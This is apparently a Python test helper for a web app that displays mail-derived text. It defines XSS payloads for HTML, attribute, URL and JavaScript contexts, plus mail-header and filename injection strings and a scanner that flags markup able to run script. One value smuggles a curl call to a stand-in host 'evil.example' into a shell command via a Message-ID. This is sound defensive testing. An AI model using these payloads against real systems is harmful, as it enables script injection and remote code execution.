"""Hostile text for every place mail-derived text ends up, and checks it stays text.

Each payload targets one context. If the code placing it there forgets the
escaping that context needs, the payload turns into markup that runs: it
calls ``alert()`` or sets ``window.pwned``, so a browser notices, and it
adds an ``on*``/``autofocus`` attribute or an element, so a parser does.

``PAYLOADS`` is the full set; ``ALL`` joins them into one string for fields
that can hold anything (a subject, a body); ``NAME`` is the subset a
From header's display name can carry.
"""

import re
from html.parser import HTMLParser

PAYLOADS = {
    # Element text: tags and an entity that must not be decoded twice.
    "element": "<script>pwned=1</script><img src=x onerror=alert(1)>&lt;b&gt;",
    # Double-quoted attribute values (title="...", aria-label="...").
    "double-quoted": '" onfocus="alert(2)" autofocus x="',
    # Single-quoted attribute values.
    "single-quoted": "' onfocus='alert(3)' autofocus x='",
    # Unquoted attribute values and the end of a tag.
    "unquoted": "x onmouseover=alert(4) y=",
    # URLs: a scheme that runs script, and a URL breaking out of href="...".
    "url": 'javascript:alert(5) http://e.x/"onmouseover="alert(6)',
    # Strings read by our JavaScript (data-* attributes, JSON it parses).
    "javascript": "';alert(7)//\\\";alert(8)//</script>\u2028",
}
# Short enough that "Mallory " + ALL fits the 255-character name columns.
ALL = " ".join(PAYLOADS.values())
# "<", ">" and "@" do not survive a From header's display name; quotes do.
NAME = " ".join(PAYLOADS[key] for key in ("double-quoted", "single-quoted"))
# Mail headers and mboxes: a line break would start a new header or mail.
HEADER = "x\r\nX-Injected: 1\nFrom evil@example.com Mon Jan  1 00:00:00 2024"
# Shell text built from a Message-ID (copy commands): pasted unquoted, it runs.
SHELL_MSGID = "<x;eval$IFS$(curl$IFS-s$IFS'evil.example');y@z>"
# Stored URLs (pull requests, checks, project links): each runs script when
# a page links it and someone follows the link.
SCRIPT_URLS = (
    "javascript:alert(5)",
    "JavaScript://example.org/%0aalert(5)",
    "data:text/html,<script>alert(5)</script>",
    "vbscript:msgbox(5)",
)
# A download's file name (Content-Disposition): quotes and semicolons would
# end the name and add parameters of their own.
FILENAME = "x\"; filename=evil.sh; y='"

# Attributes that would let text act in the page.
_ACTIVE_ATTRIBUTES = re.compile(r"^(on.*|autofocus|formaction|srcdoc)$")
_URL_ATTRIBUTES = {"href", "src", "action", "data-href", "data-api", "xlink:href"}
# Elements mail text can never add; our templates use none of them in <body>.
_FOREIGN_ELEMENTS = {"img", "iframe", "object", "embed", "base", "math", "frame"}


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_body = False

    def handle_starttag(self, tag, attrs):
        if tag == "body":
            self.in_body = True
        for name, value in attrs:
            if _ACTIVE_ATTRIBUTES.match(name):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in _URL_ATTRIBUTES and re.match(
                r"\s*(javascript|data|vbscript):", value or "", re.IGNORECASE
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
        source = dict(attrs).get("src") or ""
        if tag in _FOREIGN_ELEMENTS and self.in_body and not _own(source):
            self.found.append(f"<{tag} src={source!r}>")
        if tag == "script" and not _own(source):
            self.found.append(f"<script src={source!r}>")


def _own(source: str) -> bool:
    """Whether ``source`` is one of the site's files (ours or the admin's)."""
    return source.startswith(("/static/", "/admin/jsi18n/"))


def active_markup(html: str) -> list[str]:
    """Return the elements and attributes of ``html`` through which text could act."""
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.found
